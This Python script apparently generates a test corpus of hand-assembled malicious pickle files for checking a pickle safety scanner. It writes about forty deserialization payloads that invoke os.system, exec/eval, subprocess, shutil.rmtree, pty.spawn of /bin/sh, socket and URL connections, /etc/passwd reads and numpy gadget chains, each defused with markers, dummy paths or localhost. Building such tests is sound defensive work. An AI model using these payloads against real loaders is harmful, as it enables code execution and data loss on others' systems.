"""Writes the attacks, a pickle each. Usage: python3 make.py FOLDER

Nothing is run here: the opcodes are put together by hand. README.md says what each would do
in Python; {marker} stands for the file that a harmless one makes.
"""
import os
import struct
import sys

MARKER = "PWNED_BY_PICKLE"


def text(s):
    s = s.encode()
    return b"X" + struct.pack("<I", len(s)) + s


def function(module, name):
    return text(module) + text(name) + b"\x93"


def call(module, name, *arguments):
    return function(module, name) + b"(" + b"".join(arguments) + b"tR"


def whole(value):
    return b"\x80\x04" + value + b"."


NUMBER = b"K\x2a"
TOUCH = "open('%s', 'w').close()" % MARKER
FOLDER = text("PWNED_BY_PICKLE")
RECONSTRUCT = call("numpy.core.multiarray", "_reconstruct", function("numpy", "ndarray"),
                   b"K\x00\x85", b"C\x01b")
OBJECT_TYPE = call("numpy", "dtype", text("O8"), b"\x89", b"\x88")

ATTACKS = {
    # harmless but for the marker: the control in Python runs them
    "os-system": call("posix", "system", text("touch " + MARKER)),
    "os-mkdir": call("os", "mkdir", FOLDER),
    "exec": call("builtins", "exec", text(TOUCH)),
    "eval": call("builtins", "eval", text(TOUCH)),
    "open": call("builtins", "open", FOLDER, text("w")),
    "subprocess": call("subprocess", "call", b"](" + text("touch") + FOLDER + b"e"),
    "runpy": call("runpy", "_run_code",
                  call("builtins", "compile", text(TOUCH), text("x"), text("exec")), b"}"),
    "timeit": call("timeit", "timeit", text(TOUCH), text("pass"),
                   function("time", "perf_counter"), b"K\x01"),
    "import-getattr": call("builtins", "getattr", call("builtins", "__import__", text("os")),
                           text("mkdir")) + FOLDER + b"\x85R",
    "code-object": call("types", "FunctionType",
                        call("builtins", "compile", text(TOUCH), text("x"), text("exec")),
                        b"}") + b")R",
    "old-instance": b"(" + FOLDER + b"ios\nmkdir\n",
    "old-object": b"(" + function("os", "mkdir") + FOLDER + b"o",
    "state-setter": function("os", "mkdir") + FOLDER + b"\x85R" + NUMBER + b"\x86",
    "map": call("builtins", "list", call("builtins", "map", function("os", "mkdir"),
                                         b"](" + FOLDER + b"e")),
    "partial": call("functools", "partial", function("os", "mkdir"), FOLDER) + b")R",
    "methodcaller": call("operator", "methodcaller", text("mkdir"), FOLDER)
                    + call("builtins", "__import__", text("os")) + b"\x85R",
    "as-key": b"}" + call("os", "mkdir", FOLDER) + NUMBER + b"s",
    "popped": call("os", "mkdir", FOLDER) + b"0" + NUMBER,
    "codecs": call("codecs", "encode", call("builtins", "eval", text(TOUCH)), text("latin1")),
    "in-array": RECONSTRUCT + b"(K\x01K\x01\x85" + OBJECT_TYPE + b"\x89](" +
                call("os", "mkdir", FOLDER) + b"etb",
    "as-dtype": call("numpy", "dtype", call("builtins", "eval", text("(%s, 'f8')[1]" % TOUCH))),
    # these would do harm: never run
    "rmtree": call("shutil", "rmtree", text("/nonexistent")),
    "exit": call("os", "_exit", NUMBER),
    "sleep": call("time", "sleep", b"J\xff\xff\xff\x7f"),
    "fork": call("os", "fork"),
    "kill": call("os", "kill", call("os", "getpid"), b"K\x09"),
    "browser": call("webbrowser", "open", text("http://127.0.0.1:9/")),
    "download": call("urllib.request", "urlopen", text("http://127.0.0.1:9/")),
    "ctypes": call("ctypes", "string_at", b"K\x00"),
    "pip": call("pip", "main", b"](" + text("--version") + b"e"),
    "pty": call("pty", "spawn", text("/bin/sh")),
    "socket": call("socket", "create_connection", text("127.0.0.1") + b"K\x09\x86"),
    "pandas": call("pandas", "read_pickle", text("/nonexistent")),
    "pandas-eval": call("pandas", "eval", text("1 + 1")),
    "numpy-load": call("numpy", "load", text("/nonexistent"), b"N", b"\x88"),
    "joblib": call("joblib", "load", text("/nonexistent")),
    "torch": call("torch", "load", text("/nonexistent")),
    "nested-pickle": call("pickle", "loads", b"C\x01."),
    "raw-pointers": RECONSTRUCT + b"(K\x01K\x01\x85" + OBJECT_TYPE
                    + b"\x89C\x08AAAAAAAAtb",
    "array-of-nowhere": call("numpy.core.multiarray", "_frombuffer", text("x")),
    "as-strided": call("numpy.lib.stride_tricks", "as_strided", RECONSTRUCT,
                       b"J\xff\xff\xff\x7f\x85"),
    "memmap": call("numpy", "memmap", text("/etc/passwd"), text("u1"), text("r")),
}


if __name__ == "__main__":
    os.makedirs(sys.argv[1], exist_ok=True)
    for name, value in ATTACKS.items():
        with open(os.path.join(sys.argv[1], name + ".pickle"), "wb") as file:
            file.write(whole(value))
